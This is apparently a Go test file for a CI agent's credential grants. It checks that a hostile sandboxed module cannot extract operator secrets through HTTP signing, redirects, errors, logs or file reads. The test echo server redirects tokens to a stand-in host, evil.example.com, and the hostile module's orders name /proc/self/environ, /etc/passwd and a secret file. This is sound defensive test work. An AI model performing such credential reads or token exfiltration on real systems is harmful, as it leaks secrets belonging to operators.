package grants_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/millwright-ci/millwright/agent/config"
	"github.com/millwright-ci/millwright/agent/driver/wasm"
	"github.com/millwright-ci/millwright/agent/grants"
	"github.com/millwright-ci/millwright/agent/internal/guests"
	"github.com/millwright-ci/millwright/agent/module"
	"github.com/millwright-ci/millwright/agent/module/moduletest"
	"github.com/millwright-ci/millwright/hostfuncs/credentials"
	"github.com/millwright-ci/millwright/hostfuncs/httpsend"
	"github.com/millwright-ci/millwright/sdk/go/abi"
)

// Each secret of these tests holds this word, so that a part of one is found too.
const word = "0peratorsOwn"

// echo is a server that repeats all that it was sent, and sends it on wherever it is asked to.
func echo(w http.ResponseWriter, r *http.Request) {
	var sent bytes.Buffer
	fmt.Fprintf(&sent, "%s %s\n", r.Method, r.URL)
	r.Header.Write(&sent)
	var token string
	for _, name := range []string{"Authorization", "Private-Token", "X-Auth-Token", "X-Amz-Security-Token"} {
		if v := r.Header.Get(name); v != "" {
			token = v[strings.LastIndex(v, " ")+1:]
			w.Header().Add("X-Echo", v)
			w.Header().Add("X-"+strings.NewReplacer("/", "", "=", "").Replace(token), name)
		}
	}
	for _, v := range []string{token, sent.String()} {
		data, _ := json.Marshal(v)
		fmt.Fprintf(&sent, "%s\n%s\n%s\n%s\n", data, url.QueryEscape(v), hex.EncodeToString([]byte(v)), base64.StdEncoding.EncodeToString([]byte(v)))
	}
	switch r.URL.Path {
	case "/redirect":
		http.Redirect(w, r, "https://"+token+".evil.example.com/?t="+url.QueryEscape(token), http.StatusFound)
	case "/broken":
		w.Header()["Location"] = []string{"http://[" + token}
		w.WriteHeader(http.StatusFound)
	case "/error":
		http.Error(w, sent.String(), http.StatusInternalServerError)
	case "/chunked":
		for _, c := range sent.Bytes() {
			w.Write([]byte{c})
			w.(http.Flusher).Flush()
		}
	case "/huge":
		w.Write(bytes.Repeat(sent.Bytes(), 200<<10/sent.Len()))
	case "/toolarge":
		w.Write(bytes.Repeat(sent.Bytes(), httpsend.MaxResponse/sent.Len()+1))
	case "/unauthorized":
		w.WriteHeader(http.StatusUnauthorized)
		fallthrough
	default:
		w.Write(sent.Bytes())
	}
}

// operator is a millwright.toml with a credential of each kind that sends something, all granted to the guest for one server.
func operator(t *testing.T, server string) *config.Operator {
	t.Helper()
	dir := t.TempDir()
	secretFile := filepath.Join(dir, "token")
	if err := os.WriteFile(secretFile, []byte("file-"+word+"/+ 1"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("THE_TOKEN", "env-"+word)
	var text strings.Builder
	for name, lines := range map[string]string{
		"bearer":        "secret_file = '" + secretFile + "'",
		"basic":         "username = 'ci'\nsecret = 'inline \"" + word + "'",
		"header":        "secret_env = 'THE_TOKEN'",
		"aws4":          "access_key_id = 'AKIA" + word + "'\nsecret = 'key-" + word + "'\nsession_token = 'session-" + word + "'",
		"keystone":      "auth_url = '" + server + "/keystone'\nusername = 'ci'\nsecret = 'password-" + word + "'",
		"azure-ad":      "tenant_id = 't'\nclient_id = 'c'\nsecret = 'azure-" + word + "'\nauthority = 'https://127.0.0.1:1/" + word + "'",
		"google-oauth2": "credentials_file = '" + secretFile + "'",
		"client-tls":    "cert_file = '" + secretFile + "'\nkey_file = '" + secretFile + "'",
	} {
		fmt.Fprintf(&text, "[credentials.%[1]s]\nkind = %[1]q\n%[2]s\n[grants.thief.credentials.%[1]s]\nhostnames = [%[3]q]\n", name, lines, server)
		switch name {
		case "header":
			text.WriteString("header = 'Private-Token'\n")
		case "google-oauth2", "azure-ad":
			text.WriteString("scopes = ['https://management.azure.com/.default']\n")
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "millwright.toml"), []byte(text.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	o, diagnostics, err := config.LoadOperator(filepath.Join(dir, "config.toml"))
	if err != nil || len(diagnostics) > 0 {
		t.Fatal(err, diagnostics)
	}
	return o
}

// TestThief checks that a hostile module gets nothing of what the operator holds: not by http_send with any credential and any answer
// of a server that helps it, nor from the environment, files, errors and the log.
func TestThief(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/keystone/v3/auth/tokens" {
			w.Header().Set("X-Subject-Token", "token-"+word)
			w.WriteHeader(http.StatusCreated)
			io.WriteString(w, `{"token": {"expires_at": "2999-01-01T00:00:00Z"}}`)
			return
		}
		echo(w, r)
	}))
	defer server.Close()
	o := operator(t, server.URL)

	var log bytes.Buffer
	var mu sync.Mutex
	logger := slog.New(slog.NewTextHandler(writer(func(p []byte) (int, error) {
		mu.Lock()
		defer mu.Unlock()
		return log.Write(p)
	}), nil))
	store := credentials.NewStore(credentials.Options{Logger: logger})
	defer store.Close()
	store.Set(grants.Credentials(o.Credentials))
	signers, err := grants.Signers(store, o.Grants["thief"].Credentials)
	if err != nil {
		t.Fatal(err)
	}
	h, err := module.NewHost(module.Options{CacheDir: guests.CompilationCache(t), Logger: logger, Limits: module.Limits{ObserveTime: time.Minute, DecideTime: time.Minute}})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close(t.Context())
	m := moduletest.Load(t, h, "agent/grants/testdata/thief", server.URL)
	granted := m.Grants().WithCredentials("thief", signers)

	paths := []string{"body", "redirect", "broken", "error", "chunked", "huge", "toolarge", "unauthorized"}
	for name := range o.Credentials {
		for _, fail := range []bool{false, true} {
			t.Run(fmt.Sprint(name, " failing ", fail), func(t *testing.T) {
				sign := &abi.Sign{Scheme: name, Credential: name}
				if name == "aws4" {
					sign.Params = map[string]string{"service": "ec2", "region": "eu-west-1"}
				}
				sent := orders{Fail: fail, Paths: []string{o.Path, o.Credentials["bearer"].SecretFile, "/proc/self/environ", "/etc/passwd"}}
				for _, path := range paths {
					sent.Requests = append(sent.Requests, abi.HTTPRequest{URL: server.URL + "/" + path, Sign: sign})
				}
				sent.Requests = append(sent.Requests,
					abi.HTTPRequest{URL: strings.Replace(server.URL, "http:", "https:", 1), Sign: sign},
					abi.HTTPRequest{URL: server.URL, Sign: &abi.Sign{Scheme: name, Credential: "other"}},
					abi.HTTPRequest{Method: "TRACE", URL: server.URL, Sign: sign},
					abi.HTTPRequest{URL: server.URL, Sign: sign, Headers: map[string][]string{"Range": {"bytes=0-20"}}},
					abi.HTTPRequest{URL: server.URL, Sign: sign, Headers: map[string][]string{"Accept-Encoding": {"gzip"}}},
					abi.HTTPRequest{URL: server.URL + "/body"})
				data, err := json.Marshal(sent)
				if err != nil {
					t.Fatal(err)
				}
				input, err := json.Marshal(abi.ObserveRequest{ABI: abi.Version, Config: data})
				if err != nil {
					t.Fatal(err)
				}
				out, _, err := m.Measure(t.Context(), abi.ExportObserve, input, granted)
				if (err != nil) != fail {
					t.Fatal(err)
				}
				mu.Lock()
				text := fmt.Sprint(string(out), err, log.String())
				mu.Unlock()
				wantNothing(t, text, out)
				if sends := name != "azure-ad" && name != "google-oauth2" && name != "client-tls"; sends != strings.Contains(string(out), "[redacted]") && !fail {
					t.Errorf("of what should be signed nothing was, or the other way about: %.500s", out)
				}
			})
		}
	}
	input, _ := json.Marshal(abi.Snapshot{ABI: abi.Version, Config: abi.Raw(`{"requests": [{"url": "` + server.URL + `", "sign": {"scheme": "bearer", "credential": "bearer"}}]}`)})
	out, _, err := m.Measure(t.Context(), abi.ExportDecide, input, granted)
	if wantNothing(t, string(out), nil); err != nil || !strings.Contains(string(out), "denied") {
		t.Errorf("decide sends: %v %s", err, out)
	}
}

// orders are the guest's.
type orders struct {
	Requests []abi.HTTPRequest `json:"requests"`
	Paths    []string          `json:"paths"`
	Fail     bool              `json:"fail"`
}

// wantNothing fails if there is something of the operator's in text or in the answers that the guest handed out.
func wantNothing(t *testing.T, text string, out []byte) {
	t.Helper()
	var got struct {
		Answers []abi.HTTPResponse `json:"answers"`
	}
	if json.Unmarshal(out, &got) == nil {
		for _, a := range got.Answers {
			text += string(a.Body)
		}
	}
	text = strings.ToLower(text)
	reversed := []byte(word)
	for i, j := 0, len(reversed)-1; i < j; i, j = i+1, j-1 {
		reversed[i], reversed[j] = reversed[j], reversed[i]
	}
	forms := []string{word, string(reversed), hex.EncodeToString([]byte(word)), "PATH=", "root:x"}
	for i := range 3 {
		in := base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("x", i) + word))
		forms = append(forms, in[4:len(in)-2])
	}
	for _, f := range forms {
		if i := strings.Index(text, strings.ToLower(f)); i >= 0 {
			t.Errorf("the guest has %q, in ...%.300s", f, text[max(0, i-100):])
		}
	}
}

type writer func([]byte) (int, error)

func (w writer) Write(p []byte) (int, error) { return w(p) }

// TestOptionsOfDroppedInDrivers checks that a driver can't name, as the default of an option, what it would like to read of the agent's
// environment.
func TestOptionsOfDroppedInDrivers(t *testing.T) {
	t.Setenv("THE_TOKEN", "env-"+word)
	h := moduletest.Host(t, module.Limits{})
	m, err := h.Load(t.Context(), module.Source{Name: "thief", Wasm: moduletest.Tiny(map[string]string{
		"describe": `{"abi":1,"kind":"driver","name":"thief","options":[{"name":"thief-zone","type":"string","env":"THE_TOKEN"}]}`,
		"validate": `{"ok":{}}`, "create": "{}", "list": "{}", "remove": "{}",
	})})
	if err != nil {
		t.Fatal(err)
	}
	d, err := wasm.New(m)
	if err != nil {
		t.Fatal(err)
	}
	options, problems := wasm.ParseOptions(d.Describe(), nil, os.Getenv)
	if got := options.Get("thief-zone"); got != "" || len(problems) > 0 {
		t.Errorf("the driver is given %q (%v)", got, problems)
	}
}
